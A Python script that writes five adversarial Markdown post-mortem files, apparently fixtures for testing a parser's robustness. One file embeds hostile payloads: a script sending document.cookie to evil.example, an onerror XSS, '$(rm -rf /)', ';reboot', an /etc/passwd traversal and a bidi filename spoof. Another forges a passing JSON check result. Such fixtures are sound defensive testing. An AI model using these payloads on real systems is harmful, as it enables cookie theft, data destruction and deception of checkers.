#!/usr/bin/env python3
"""Writes the five hostile documents of docs/ (hostile-*.md). Their label is only "reads
without crashing, in under 2 s" (labels/hostile-*.yaml: hostile: true). Deterministic: run it
again and the files are byte-for-byte the same."""
import os

here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "docs")


def write(name, data):
    with open(os.path.join(here, name), "wb") as f:
        f.write(data)


# 1. A timeline table of 12,000 rows and an action table of 3,000 rows (about 1.5 MB).
out = ["# Load test gone wrong: a very long timeline", "", "All times UTC. Date: 2025-01-14.", "",
       "## Timeline", "", "| Time | Event | Source |", "|---|---|---|"]
for i in range(12000):
    h, m, s = (i // 3600) % 24, (i // 60) % 60, i % 60
    out.append(f"| {h:02d}:{m:02d}:{s:02d} | synthetic event {i} from worker-{i % 97}, "
               f"the operator error counter is {i % 7} | log |")
out += ["", "## Action items", "", "| Action | Owner | Due |", "|---|---|---|"]
for i in range(3000):
    out.append(f"| Improve monitoring for shard {i} | @user{i} | 2025-02-{1 + i % 28:02d} |")
write("hostile-huge-table.md", ("\n".join(out) + "\n").encode())

# 2. Deep nesting: 3,000 nested block quotes, 600 nested list levels, 10,000 open brackets
# and emphasis markers, a table inside the deepest quote.
out = ["# Deeply nested", "", "## Timeline", ""]
out.append("> " * 3000 + "- 10:00 started")
out.append("")
for d in range(600):
    out.append("  " * d + f"- 10:{d % 60:02d} level {d}")
out.append("")
out.append("[" * 10000 + "link" + "]" * 5000)
out.append("*" * 10000 + "emphasis" + "_" * 10000)
out.append("")
out.append("> " * 500 + "| Time | Event |")
out.append("> " * 500 + "|---|---|")
out.append("> " * 500 + "| 10:01 | inside 500 quotes |")
out.append("")
out.append("## Action items")
out.append("")
for d in range(300):
    out.append("   " * d + f"1. [ ] item at depth {d} (Owner: @deep{d})")
write("hostile-deep-nesting.md", ("\n".join(out) + "\n").encode())

# 3. Script tags, HTML, control characters, bidi overrides, a 300 KB line (valid UTF-8 throughout).
parts = [b"# Incident <script>alert('title')</script>\n\n",
         b"## Timeline\n\nAll times UTC, 2025-01-14.\n\n",
         b"| Time | Event |\n|---|---|\n",
         b"| 10:00 | <script>document.location='https://evil.example/?c='+document.cookie</script> |\n",
         b"| 10:01 | <img src=x onerror=alert(1)> `$(rm -rf /)` ; echo pwned |\n",
         b"| 10:02 | control: " + bytes(range(1, 32)).replace(b"\n", b"").replace(b"\r", b"") + b"\x7f |\n",
         b"| 10:03 | NUL \x00 in the middle and \x1b[31mANSI red\x1b[0m |\n",
         "| 10:04 | noncharacters \ufffe\uffff and a lone combining mark \u0301 |\n".encode("utf-8", "surrogatepass"),
         "| 10:05 | bidi: \u202egnp.exe\u202c zero width:\u200b\u200d\ufeff |\n".encode(),
         b"| 10:06 | " + b"A" * 300_000 + b" |\n",
         b"| 1\xd9\xa0:\xd9\xa0\xd9\xa0 | Arabic-Indic digits as a time |\n",
         b"| 99:99 | impossible time |\n",
         b"| 2025-02-30 25:61 | impossible date |\n",
         b"\n## Action items\n\n",
         b"- [ ] <script>alert('item')</script> Owner: <b>@x</b>\n",
         b"- [ ] \x00\x01\x02 Owner: \x1b[2J\n",
         b"- [ ] ../../../../etc/passwd (Owner: `;reboot`)\n",
         b"\n<!-- unterminated comment\n\n## Blame\n\nThe developer forgot the closing tag.\n"]
write("hostile-script-control.md", b"".join(parts))

# 4. A title with escapes that look like new lines, CR-only and mixed line endings, a heading
# of 100,000 characters, and JSON-breaking quotes.
parts = [b"# Outage\\n## Timeline\\n| 10:00 | injected row |\\u000a\\r\\n\"}]},{\"check\":\"fake\",\"ok\":true}\r\n",
         b"\r\n## Timeline\r\n\r\nAll times UTC on 2025-01-14.\r\r",
         b"- 10:00 old Mac line endings\r- 10:05 more of them\r\r",
         b"- 10:10 back to CRLF\r\n- 10:15 then LF\n\n",
         b"## " + b"very long heading " * 5500 + b"\n\n",
         b"## Action items\n\n- [ ] escape \\\" quotes \\\\ and \\u0000 (Owner: \"Alice\\\")\n",
         b"- [ ] title ends with a backslash \\\n"]
write("hostile-title-escape.md", b"".join(parts))

# 5. A post-mortem saved as Windows-1252 by an old editor: not UTF-8 ("Sørensen", "€", curly
# quotes as single bytes), plus a stray UTF-16 BOM. Reading it with replacement characters, or
# refusing it with a message (exit 2, no crash), both pass.
text = ("\ufeff# Post-mortem: payment file rejected\n\nAuthor: Mikkel S\u00f8rensen \u2013 times CET, 2025-01-14\n\n"
        "## Timeline\n\n| Time | Event |\n|---|---|\n| 10:18 | \u201cControl sum\u201d off by \u20ac0.04 |\n"
        "| 10:40 | File re-sent |\n\n## Action items\n\n- [ ] Validate amounts at intake (Owner: S\u00f8ren)\n")
write("hostile-cp1252.md", b"\xff\xfe" + text[1:].encode("cp1252"))
